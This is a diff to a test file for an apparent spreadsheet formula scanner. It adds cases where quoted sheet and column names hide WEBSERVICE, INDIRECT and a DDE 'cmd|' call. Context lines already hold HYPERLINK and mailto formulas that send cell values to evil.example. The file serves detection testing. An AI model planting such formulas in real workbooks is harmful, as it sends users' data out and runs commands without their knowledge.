@@ -354,6 +354,13 @@ describe('a workbook that asks somebody outside when it is opened', () => {
     'HYPERLINK("https://evil.example/?"&amp;B1,"市のページ")',
     'IF(B1=1,HYPERLINK(CONCATENATE("mailto:x@evil.example?body=",B1),"送る"),"")',
     'hyperlink ( "\\\\evil.example\\"&amp;B1 )',
+    // A sheet's name, and a column's, may hold a quote, or what begins one elsewhere.
+    `'幅3"'!A1&amp;WEBSERVICE("http://x/"&amp;B1)`,
+    '表[幅"]&amp;WEBSERVICE(B1)&amp;表[高さ"]',
+    `'幅3"'!A1&amp;INDIRECT("'http://x/"&amp;B1)`,
+    "表[a'']&amp;WEBSERVICE(B1)&amp;表[b'']",
+    "表['[]&amp;cmd|x!A0&amp;表['[]",
+    `表[it''s]&amp;"'"&amp;WEBSERVICE(B1)&amp;"'"`,
   ])('%s', (text) => {
     expect(formula(text)).toBe('form/reaches-out');
   });
@@ -368,6 +375,7 @@ describe('a workbook that asks somebody outside when it is opened', () => {
     'SUM(B1:B9)',
     'B1&amp;"WEBSERVICE(x)"',
     'MYIMAGE(B1)',
+    `'幅3"'!A1&amp;"WEBSERVICE(x)"&amp;表[幅"]&amp;"a|b"`,
   ])('%s does not', (text) => {
     expect(formula(text)).toBe('ok');
   });
